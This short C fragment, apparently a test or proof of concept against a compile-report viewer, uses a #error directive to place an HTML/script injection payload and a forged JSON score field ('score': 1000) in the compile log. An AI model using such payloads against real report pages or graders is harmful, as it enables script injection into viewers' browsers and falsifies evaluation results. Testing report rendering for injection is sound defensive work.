// Attack: put markup and a script into the compile log, which the report shows.
#error "</pre><script>document.title='pwned'</script><img src=x onerror=alert(1)> \" }, {\"score\": 1000"
